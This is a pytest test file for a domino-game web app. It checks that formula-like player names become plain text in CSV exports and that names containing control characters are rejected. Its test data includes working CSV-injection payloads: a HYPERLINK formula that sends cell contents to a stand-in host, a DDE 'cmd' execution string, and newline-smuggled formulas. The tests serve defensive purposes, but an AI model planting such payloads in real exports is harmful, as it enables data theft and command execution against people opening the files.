"""Names that look like formulas stay text in a spreadsheet; names with control characters are refused."""
from __future__ import annotations

import csv
import io
import json

import pytest

from chickenyard.game.transfer import spreadsheet_safe
from chickenyard.storage.db import connect
from tests.elements import elements, text
from tests.test_odd_input import field_error
from tests.sheet_helpers import start_game

FORMULAS = ['=HYPERLINK("http://x.co?"&A1,"win")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_names_like_formulas_are_text_in_the_csv_and_intact_elsewhere(client):
    game_id = start_game(client, players=FORMULAS)
    rows = list(csv.reader(io.StringIO(client.get(f"/games/{game_id}/export.csv").get_data(as_text=True))))
    assert rows[0][2:] == ["'" + name for name in FORMULAS]
    assert client.get(f"/games/{game_id}/export.json").get_json()["players"] == FORMULAS


@pytest.mark.parametrize("text, safe", [("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Ann", "Ann"), ("O'Brien", "O'Brien"),
                                        ("Bo-Ann", "Bo-Ann"), ("", "")])
def test_every_formula_start_owasp_names_is_neutralised(text, safe):
    assert spreadsheet_safe(text) == safe


@pytest.mark.parametrize("name", ["Ann\x00", "Ann\nBo", "A\tB", "Line\u2028break", "Bell\x07"])
def test_a_name_with_a_control_character_is_refused_on_the_form(client, app, name):
    response = client.post("/games/new", data={"game": "chickenfoot", "preset": "classic", "set": "9",
                                               "double_blank": "50", "player": [name, "Bo", "Cy"]})
    assert response.status_code == 422
    assert "one line" in field_error(response.get_data(as_text=True), "player")
    assert [seat.get("value") for seat in elements(response, 'input[name="player"]')][1:3] == ["Bo", "Cy"]
    assert connect(app.config["DATABASE"])["games"].count == 0


@pytest.mark.parametrize("name", ["Ann\x00", "Ann\nBo", "Ann\r\n=1+1"])
def test_a_name_with_a_control_character_is_refused_on_import(client, app, name):
    doc = {"format": "chickenyard/game-v1", "preset": "classic", "set": 9, "players": [name, "Bo", "Cy"]}
    response = client.post("/games/import", data=json.dumps(doc), content_type="application/json")
    assert response.status_code == 400
    assert "control character" in " ".join(response.get_json()["problems"])
    assert connect(app.config["DATABASE"])["games"].count == 0


def test_a_device_name_cookie_cannot_carry_control_characters_into_the_history(client, app):
    from tests.sheet_helpers import hand_form, player_ids
    game_id = start_game(client)
    client.set_cookie("device", "Kitchen\x00phone\x07")
    client.post(f"/games/{game_id}/hands/1", data=hand_form(player_ids(app, game_id), {"Ann": 4}))
    devices = [r["device"] for r in connect(app.config["DATABASE"]).query("select device from changes")]
    assert "Kitchenphone" in devices and all(d is None or d.isprintable() for d in devices)


@pytest.mark.parametrize("name", ["Annie\x00", "An\nnie", "=1+1\r\nX"])
def test_a_rename_with_a_control_character_is_refused(client, app, name):
    start_game(client, players=("Ann", "Bo"))
    ann = connect(app.config["DATABASE"]).execute("select id from people where name = 'Ann'").fetchone()[0]
    response = client.post(f"/players/{ann}/rename", data={"name": name})
    assert response.status_code == 422 and "one line" in text(response, '[role="alert"]')
    assert connect(app.config["DATABASE"]).execute("select name from people where id = ?", [ann]).fetchone()[0] == "Ann"
